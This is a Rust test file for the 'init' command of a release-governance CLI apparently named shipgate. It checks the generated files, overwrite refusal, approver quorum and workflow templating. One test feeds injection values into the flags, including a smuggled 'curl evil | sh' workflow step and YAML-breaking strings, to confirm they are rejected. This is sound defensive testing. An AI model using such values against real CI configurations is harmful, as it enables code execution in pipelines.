//! `shipgate init`: what it writes, what it refuses, and that a repository adopted by following
//! its steps passes `shipgate doctor` and dry-runs cleanly.

use crate::adoption_support::Adopted;
use crate::fixture::{TestRepo, assert_exit, stderr, stdout};
use crate::github_support::{ALICE, SLUG};

const FILES: [&str; 5] = [
    ".shipgate/policies/policy.yaml",
    ".shipgate/plans/README.md",
    ".github/workflows/shipgate-plan.yml",
    ".github/workflows/shipgate-approve.yml",
    ".github/workflows/shipgate-ship.yml",
];

#[test]
fn an_adopted_repository_passes_doctor_and_dry_runs_cleanly() {
    let adopted = Adopted::new();
    let check = adopted.shipgate(&["policy", "check"]);
    assert_exit(&check, 0);

    // Offline, without a remote: nothing wrong, the governance branch simply not checked.
    let (code, findings) = adopted.doctor(&[]);
    assert_eq!(code, Some(0), "{findings:?}");
    let flagged: Vec<&str> = findings
        .iter()
        .filter(|(_, s)| s != "ok" && s != "skipped")
        .map(|(c, _)| c.as_str())
        .collect();
    assert_eq!(flagged, ["GOVERNANCE_NOT_CHECKED"], "{findings:?}");

    // Against the fake, with the chain started and the branch protected by a ruleset: every
    // check runs and passes.
    let world = adopted.serve();
    adopted.start_chain();
    world
        .fake
        .set_branch_rules(SLUG, "shipgate/audit", &["non_fast_forward", "deletion"]);
    world
        .fake
        .add_tag_ruleset(SLUG, "release tags", &["refs/tags/v*"], &["creation"]);
    let (code, findings) = adopted.doctor_online(&world, ALICE);
    assert_eq!(code, Some(0), "{findings:?}");
    // The one thing left to do once the chain exists: pin its genesis in the policy.
    let not_ok: Vec<_> = findings
        .iter()
        .filter(|(_, s)| s != "ok")
        .map(|(c, _)| c.as_str())
        .collect();
    assert_eq!(not_ok, ["AUDIT_GENESIS_UNPINNED"], "{findings:?}");
    for code in [
        "POLICY_OK",
        "SIGNER_OK",
        "KEY_MATCHES",
        "WORKFLOW_PRESENT",
        "GOVERNANCE_BRANCH_OK",
        "TOKEN_CAN_PUSH",
        "BRANCH_PROTECTED",
    ] {
        assert!(
            findings.iter().any(|(c, _)| c == code),
            "{code}: {findings:?}"
        );
    }

    adopted.repo.write(
        ".shipgate/plans/release-1.0.0.yaml",
        "version: 1\noperations:\n  - kind: tag\n    name: v1.0.0\n    target: main\n",
    );
    let dry_run = adopted.shipgate(&["dry-run", "--repo-slug", SLUG]);
    assert_exit(&dry_run, 0);
}

#[test]
fn init_prints_the_key_setup_steps() {
    let repo = TestRepo::empty();
    let out = repo.shipgate(&["init", "--approver", "alice", "--approver", "bob"]);
    assert_exit(&out, 0);
    let text = stdout(&out);
    for expected in [
        "--role mint --out mint.key",
        "--role audit --out audit.key",
        "gh secret set SHIPGATE_MINT_KEY --env shipgate-mint < mint.key",
        "gh secret set SHIPGATE_AUDIT_KEY --env shipgate-mint < audit.key",
        "gh secret set SHIPGATE_AUDIT_KEY --env shipgate-ship < audit.key",
        "shipgate/audit",
        "shipgate doctor",
        "a plan's author never counts",
    ] {
        assert!(text.contains(expected), "{expected}:\n{text}");
    }
}

#[test]
fn init_refuses_to_overwrite_and_writes_nothing_then_force_overwrites() {
    let repo = TestRepo::empty();
    repo.write(".shipgate/policies/policy.yaml", "mine\n");
    repo.write(".github/workflows/shipgate-ship.yml", "mine too\n");
    let out = repo.shipgate(&["init", "--approver", "alice", "--approver", "bob"]);
    assert_exit(&out, 2);
    let err = stderr(&out);
    assert!(err.contains(".shipgate/policies/policy.yaml"), "{err}");
    assert!(err.contains(".github/workflows/shipgate-ship.yml"), "{err}");
    assert!(!repo.path().join(".shipgate/plans/README.md").exists());
    assert!(
        !repo
            .path()
            .join(".github/workflows/shipgate-plan.yml")
            .exists()
    );
    let policy = std::fs::read_to_string(repo.path().join(".shipgate/policies/policy.yaml"));
    assert_eq!(policy.unwrap(), "mine\n");

    let out = repo.shipgate(&[
        "init",
        "--approver",
        "alice",
        "--approver",
        "bob",
        "--force",
    ]);
    assert_exit(&out, 0);
    assert!(stdout(&out).contains("(overwritten)"));
    for file in FILES {
        let text = std::fs::read_to_string(repo.path().join(file)).expect(file);
        assert!(!text.starts_with("mine"), "{file}");
    }
}

#[test]
fn hostile_flags_are_refused_and_nothing_is_written() {
    let repo = TestRepo::empty();
    for args in [
        &[
            "--approver",
            "alice",
            "--approver",
            "bob",
            "--action",
            "a/b@v1\n  run: curl evil | sh",
        ][..],
        &[
            "--approver",
            "alice",
            "--approver",
            "bob",
            "--action",
            "a/b@v1 # x",
        ][..],
        &[
            "--approver",
            "alice",
            "--approver",
            "bob",
            "--action",
            "'a/b@v1'",
        ][..],
        &["--approver", "alice", "--approver", "bob\"]\nrules: []"][..],
        &["--approver", "alice", "--approver", "github-actions[bot]"][..],
        &[
            "--approver",
            "alice",
            "--approver",
            "bob",
            "--halt-admin",
            "eve, mallory",
        ][..],
        &["--approver", "alice", "--approver", "bob", "--team", "acme"][..],
        &[
            "--approver",
            "alice",
            "--approver",
            "bob",
            "--default-branch",
            "main]\non: push",
        ][..],
    ] {
        let mut command = vec!["init"];
        command.extend_from_slice(args);
        let out = repo.shipgate(&command);
        assert_exit(&out, 2);
        assert!(
            !stderr(&out).contains("\n  run:") && !stderr(&out).contains("\non:"),
            "the refusal quotes no line break: {}",
            stderr(&out)
        );
        for file in FILES {
            assert!(!repo.path().join(file).exists(), "{args:?} wrote {file}");
        }
    }
}

#[test]
fn a_quorum_the_approvers_cannot_meet_is_refused() {
    let repo = TestRepo::empty();
    let out = repo.shipgate(&["init", "--approver", "alice"]);
    assert_exit(&out, 2);
    assert!(
        stderr(&out).contains("needs 2 approvers"),
        "{}",
        stderr(&out)
    );
    let solo = repo.shipgate(&["init", "--preset", "solo-maintainer", "--approver", "alice"]);
    assert_exit(&solo, 0);
    let check = repo.shipgate(&["policy", "check"]);
    assert_exit(&check, 0);
    assert!(stdout(&check).contains("shipgate:solo-maintainer"));
}

#[test]
fn generated_workflows_have_no_placeholder_left() {
    let repo = TestRepo::empty();
    let out = repo.shipgate(&["init", "--approver", "alice", "--approver", "bob"]);
    assert_exit(&out, 0);
    let default_action = format!("uses: shipgate/shipgate@v{}", env!("CARGO_PKG_VERSION"));
    for file in &FILES[2..] {
        let text = std::fs::read_to_string(repo.path().join(file)).expect(file);
        assert!(!text.contains("__"), "{file} keeps a placeholder:\n{text}");
        assert!(text.contains(&default_action), "{file}");
        serde_yaml::from_str::<serde_yaml::Value>(&text).expect("the workflow is YAML");
    }
    let ship = std::fs::read_to_string(repo.path().join(FILES[4])).expect("ship");
    assert!(ship.contains("branches: [main]"), "{ship}");

    let out = repo.shipgate(&[
        "init",
        "--approver",
        "alice",
        "--approver",
        "bob",
        "--action",
        "./.github/actions/shipgate",
        "--default-branch",
        "release/2.x",
        "--force",
    ]);
    assert_exit(&out, 0);
    for file in &FILES[2..] {
        let text = std::fs::read_to_string(repo.path().join(file)).expect(file);
        assert!(!text.contains("__"), "{file}");
        assert!(text.contains("uses: ./.github/actions/shipgate"), "{file}");
    }
    let ship = std::fs::read_to_string(repo.path().join(FILES[4])).expect("ship");
    assert!(ship.contains("branches: [release/2.x]"), "{ship}");
}
